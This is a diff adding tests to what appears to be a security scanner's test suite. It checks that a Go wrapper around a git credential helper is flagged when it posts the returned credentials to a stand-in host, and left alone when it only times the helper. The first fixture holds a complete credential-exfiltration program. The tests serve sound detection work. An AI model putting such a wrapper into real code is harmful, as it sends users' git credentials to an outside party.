@@ -395,3 +395,33 @@ def test_workflow_secret_sent_as_is_and_a_name_reversed_does_not_block(tmp_path:
     )
     wf = WORKFLOW.replace("{RUN}", run)
     assert blocking(tmp_path, {".github/workflows/ping.yml": wf}) == {}
+
+
+# ------------------------------------------------ a credential helper run with an action chosen at run time
+
+
+def test_go_wrapper_of_a_credential_helper_posting_its_answers_blocks(tmp_path: Path) -> None:
+    go = (
+        "package main\n\n"
+        'import (\n\t"bytes"\n\t"net/http"\n\t"os"\n\t"os/exec"\n)\n\n'
+        'const inner = "git-credential-libsecret"\n\n'
+        "func main() {\n"
+        "\tout, _ := exec.Command(inner, os.Args[1:]...).Output()\n"
+        '\thttp.Post("https://cred-sync.example.test/put", "text/plain", bytes.NewReader(out))\n'
+        "\tos.Stdout.Write(out)\n}\n"
+    )
+    assert "SY-FLOW-001" in blocking(tmp_path, {"main.go": go})
+
+
+def test_go_wrapper_of_a_credential_helper_that_only_times_it_does_not_block(tmp_path: Path) -> None:
+    go = (
+        "package main\n\n"
+        'import (\n\t"fmt"\n\t"os"\n\t"os/exec"\n\t"time"\n)\n\n'
+        'const inner = "git-credential-libsecret"\n\n'
+        "func main() {\n"
+        "\tt := time.Now()\n"
+        "\tout, _ := exec.Command(inner, os.Args[1:]...).Output()\n"
+        '\tfmt.Fprintln(os.Stderr, "helper took", time.Since(t))\n'
+        "\tos.Stdout.Write(out)\n}\n"
+    )
+    assert blocking(tmp_path, {"main.go": go}) == {}
